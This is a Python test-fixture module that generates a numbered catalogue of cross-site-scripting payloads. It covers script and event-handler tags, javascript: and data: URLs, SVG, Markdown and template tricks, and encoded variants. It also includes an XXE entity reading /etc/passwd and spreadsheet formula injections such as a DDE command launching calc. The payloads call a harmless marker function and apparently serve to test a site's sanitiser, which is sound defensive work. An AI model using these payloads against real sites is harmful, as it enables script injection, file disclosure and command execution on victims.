"""Texts that run a script where a page is careless: each calls `hit` with its number, and marks what it smuggles in.

They are made from the known ways out of a text: elements, attributes, addresses, ends of what surrounds them, drawings,
Markdown and its extensions, templates, encodings, XML, tables for spreadsheets.
"""

from collections.abc import Iterator
from itertools import product

NUMBER = "\N{NUMERO SIGN}"
"""What becomes the number of the payload."""
CALL = f"hit({NUMBER})"
MARK = f"xss={NUMBER}"
"""An attribute that no page of ours has."""

_ELEMENTS = (
    *(f"<script {MARK}>{CALL}</script>", f"<ScRiPt {MARK}>{CALL}</sCrIpT>", f"<script\n{MARK}\n>{CALL}</script\n>"),
    *(
        f"<script/{MARK}>{CALL}</script>",
        f"<<script {MARK}>{CALL}//<</script>",
        f"<scr<script>ipt {MARK}>{CALL}</script>",
    ),
    *(f"<script {MARK} src=data:text/javascript,{CALL}></script>", f"<script {MARK} type=module>{CALL}</script>"),
    *(
        f"\x00<script {MARK}>{CALL}</script>",
        f"<\x00script {MARK}>{CALL}</script>",
        f"<scr\x00ipt {MARK}>{CALL}</script>",
    ),
    *(f"a\n\n<script {MARK}>{CALL}</script>\n\nb", f"    <script {MARK}>{CALL}</script>", f"\t<script {MARK}>{CALL}"),
    *(
        f"<iframe {MARK} src=javascript:parent.{CALL}></iframe>",
        f'<iframe {MARK} srcdoc="<script>parent.{CALL}</script>">',
    ),
    *(f"<object {MARK} data=javascript:{CALL}></object>", f"<embed {MARK} src=javascript:{CALL}>"),
    *(
        f"<base {MARK} href=javascript:{CALL}//>",
        f"<link {MARK} rel=stylesheet href=data:text/css,*{{}} onload={CALL}>",
    ),
    *(f'<meta {MARK} http-equiv=refresh content="0;url=javascript:{CALL}">', f"<style {MARK} onload={CALL}></style>"),
    *(
        f"<form {MARK} action=javascript:{CALL}><button>x</button></form>",
        f"<button {MARK} formaction=javascript:{CALL}>x",
    ),
    *(
        f"<math {MARK}><a xlink:href=javascript:{CALL}>x</a></math>",
        f"<template {MARK}><script>{CALL}</script></template>",
    ),
    *(
        f"<noscript {MARK}><p title='</noscript><img src=x onerror={CALL}>'>",
        f"<xmp {MARK}><img src=x onerror={CALL}></xmp>",
    ),
)
_TAGS = (
    "img src=x",
    "video src=x",
    "audio src=x",
    "body",
    "input autofocus",
    "details open",
    "svg",
    "marquee",
    "select autofocus",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerover", "onanimationstart", "OnError ", "onstart")
_QUOTES = ('"', "'", "`", "", "&quot;", "&#34;", "&#x27;", '\\"', "\u201d")
_ATTRIBUTES = (
    f" onpointerover={CALL} {MARK} x=",
    f" autofocus onfocus={CALL} tabindex=1 {MARK} x=",
    f"><img src=x onerror={CALL} {MARK}>",
)
_ENDS = (
    *(
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "-->",
        "--!>",
        "]]>",
        "</code></pre>",
        "</a>",
        "</svg>",
        "</details>",
    ),
    *(
        "</td></tr></tbody></table>",
        "</li></ul>",
        "</dd></dl>",
        "</noscript>",
        "</template>",
        "</head><body>",
        "?>",
        "*/",
        "}}",
    ),
)
_ADDRESSES = (
    *(
        f"javascript:{CALL}",
        f"JaVaScRiPt:{CALL}",
        f" javascript:{CALL}",
        f"java\tscript:{CALL}",
        f"java\nscript:{CALL}",
    ),
    *(f"\x01javascript:{CALL}", f"javascript&colon;{CALL}", f"&#106;avascript:{CALL}", f"&#x6A&#x61vascript:{CALL}"),
    *(
        f"javascript&amp;colon;{CALL}",
        f"javascript://example.org/%0A{CALL}",
        f"vbscript:{CALL}",
        f"feed:javascript:{CALL}",
    ),
    *(f"data:text/html,<script>{CALL}</script>", f"data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=#{CALL}"),
    *(
        f"data:image/svg+xml,<svg onload={CALL}>",
        f"view-source:javascript:{CALL}",
        f"//javascript:{CALL}",
        f"\\javascript:{CALL}",
    ),
    *(f'https://example.org/"onpointerover={CALL} {MARK}', f"https://example.org/'onpointerover={CALL} {MARK}"),
    *(f"https://example.org/><img src=x onerror={CALL} {MARK}>", f'mailto:a@b.c"onpointerover={CALL} {MARK}'),
)
_LINKS = ("[x]({})", "![x]({})", "<{}>", "[x](<{}>)", '[x](u "\'{}")', "[x][r]\n\n[r]: {}")
_DRAWINGS = (
    *(f"<svg {MARK} onload={CALL}>", f"<svg><script {MARK}>{CALL}</script></svg>", f"<svg/onload={CALL}//{MARK}>"),
    *(
        f"<svg><animate {MARK} onbegin={CALL} attributeName=x dur=1s>",
        f"<svg><set {MARK} onbegin={CALL} attributeName=x>",
    ),
    f"<svg><a xlink:href=javascript:{CALL} {MARK}><text y=9>x</text></a></svg>",
    f"<svg><use {MARK} href='data:image/svg+xml,<svg id=x onload={CALL}/>#x'></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL} {MARK}></foreignObject></svg>",
    f"</text></svg><svg onload={CALL} {MARK}>",
    f"<svg><style><img src=x onerror={CALL} {MARK}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL} {MARK}>",
    f"<svg xmlns='http://www.w3.org/2000/svg' {MARK}><handler>{CALL}</handler></svg>",
)
_MARKDOWN = (
    *(
        f"x{{: onpointerover={CALL} {MARK} }}",
        f"x\n{{: onpointerover={CALL} {MARK} }}",
        f"**x**{{ onpointerover={CALL} {MARK} }}",
    ),
    *(
        f"[x](u){{ onpointerover={CALL} {MARK} }}",
        f"![x](x){{ onerror={CALL} {MARK} }}",
        f"# x {{ onpointerover={CALL} {MARK} }}",
    ),
    *(f'<div markdown="1" {MARK} onpointerover={CALL}>x</div>', f"\x02klzzwxh:0\x03<img src=x onerror={CALL} {MARK}>"),
    *("\x02wzxhzdk:0\x03", "\x02specs0\x03", f"```\n</code></pre><img src=x onerror={CALL} {MARK}>\n```"),
    *(
        f"`</code><img src=x onerror={CALL} {MARK}>`",
        f"``` {{ onpointerover={CALL} {MARK} }}\nx\n```",
        f"[^1]\n\n[^1]: <img src=x onerror={CALL} {MARK}>",
    ),
    *(f"*[x]: <img src=x onerror={CALL} {MARK}>\n\nx", f'!!! note "<img src=x onerror={CALL} {MARK}>"\n    x'),
    *(
        f"[[SPEC-0002|<img src=x onerror={CALL} {MARK}>]]",
        f"[[SPEC-0002]](javascript:{CALL})",
        f"[[SPEC-0002#<img src=x onerror={CALL} {MARK}>]]",
    ),
    *(
        f"<!-- specs:index {{status: <img src=x onerror={CALL} {MARK}>}} -->",
        f"<!-- specs:section --><img src=x onerror={CALL} {MARK}>",
    ),
    *(
        f"\\<img src=x onerror={CALL} {MARK}\\>",
        f"\\\\<img src=x onerror={CALL} {MARK}>",
        f"a  \n<img src=x onerror={CALL} {MARK}>",
    ),
    *(
        f"[<img src=x onerror={CALL} {MARK}>](u)",
        f"[x](u '<img src=x onerror={CALL} {MARK}>')",
        f'[a](<u> "x" onpointerover={CALL} {MARK})',
    ),
    *(
        f'=== "<img src=x onerror={CALL} {MARK}>"\n    x',
        f"| a |\n|---|\n| <img src=x onerror={CALL} {MARK}> |",
        f'--8<-- "x"<img src=x onerror={CALL} {MARK}>',
    ),
)
_TEMPLATES = (
    *(f"{{{{ '<img src=x onerror={CALL} {MARK}>' }}}}", f"{{% raw %}}<img src=x onerror={CALL} {MARK}>{{% endraw %}}"),
    *(
        "{{ config.__class__.__init__.__globals__ }}",
        f"${{{CALL}}}",
        f"#{{{CALL}}}",
        f"{{{{constructor.constructor('{CALL}')()}}}}",
    ),
    *(
        f"<%= {CALL} %>",
        f"{{{{{{ <img src=x onerror={CALL} {MARK}> }}}}}}",
        f"click A call {CALL}",
        f'A --> B\nclick A "javascript:{CALL}"',
    ),
    *(
        f"%%{{init: {{'securityLevel': 'loose', 'x': '<img src=x onerror={CALL} {MARK}>'}}}}%%",
        f"\\href{{javascript:{CALL}}}{{x}}",
    ),
)
_ENCODED = (
    *(
        f"&lt;img src=x onerror={CALL} {MARK}&gt;",
        f"&amp;lt;img src=x onerror={CALL} {MARK}&amp;gt;",
        f"&#60;img src=x onerror={CALL} {MARK}&#62;",
    ),
    *(
        f"&#x3c;img src=x onerror={CALL} {MARK}>",
        f"&LT;img src=x onerror={CALL} {MARK}&GT;",
        f"\\u003cimg src=x onerror={CALL} {MARK}\\u003e",
    ),
    *(
        f"\\x3cimg src=x onerror={CALL} {MARK}\\x3e",
        f"%3Cimg src=x onerror={CALL} {MARK}%3E",
        f"\uff1cimg src=x onerror={CALL} {MARK}\uff1e",
    ),
    *(
        f"+ADw-img src=x onerror={CALL} {MARK}+AD4-",
        f"\u2028<img src=x onerror={CALL} {MARK}>",
        f"\u202e<img src=x onerror={CALL} {MARK}>",
    ),
    *(
        f"<img\x0csrc=x\x0conerror={CALL}\x0c{MARK}>",
        f"<img/src=x/onerror={CALL}/{MARK}>",
        f"<im\u0131g><\u0131mg src=x onerror={CALL} {MARK}>",
    ),
    *(
        f"<img src=x onerror={CALL} {MARK}//",
        f"<img src=x onerror={CALL} {MARK} <b>",
        f"\ufeff<img src=x onerror={CALL} {MARK}>",
    ),
    *(
        f"<a href=x id=hits name=hit {MARK}>",
        f"<img name=body id=__config {MARK}>",
        f"<b {MARK}>bold</b>",
        f"<plaintext {MARK}>",
    ),
)
_DATA = (
    *(
        f'"}}]}}</script><script {MARK}>{CALL}</script>',
        f"]]></content><script xmlns='http://www.w3.org/1999/xhtml' {MARK}>{CALL}</script>",
    ),
    *(
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml' {MARK}>{CALL}</x:script>",
        f"<?xml-stylesheet href=javascript:{CALL}?>",
    ),
    *(
        '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
        f"<!--><img src=x onerror={CALL} {MARK}>-->",
        f"<!-- {NUMBER}",
    ),
)
_FORMULAS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\uff1d1+1",
        f'=HYPERLINK("https://example.org?{NUMBER}")',
    ),
    *("=cmd|' /C calc'!A0", '";=1+1', "\n=1+1", '=IMPORTXML("https://example.org","//a")', "'=1+1", "\u200b=1+1"),
)


def _texts() -> Iterator[str]:
    yield from _ELEMENTS
    yield from (f"<{tag} {event}={CALL} {MARK}>" for tag, event in product(_TAGS, _EVENTS))
    yield from (f"x{quote}{attribute}{quote}" for quote, attribute in product(_QUOTES, _ATTRIBUTES))
    yield from (f"{end}<img src=x onerror={CALL} {MARK}>" for end in _ENDS)
    yield from _ADDRESSES
    yield from (link.format(address) for link, address in product(_LINKS, _ADDRESSES[:6]))
    yield from (*_DRAWINGS, *_MARKDOWN, *_TEMPLATES, *_ENCODED, *_DATA, *_FORMULAS)


PAYLOADS: tuple[str, ...] = tuple(
    text.replace(NUMBER, str(number)) for number, text in enumerate(dict.fromkeys(_texts()))
)
"""Every payload; its number is its place."""
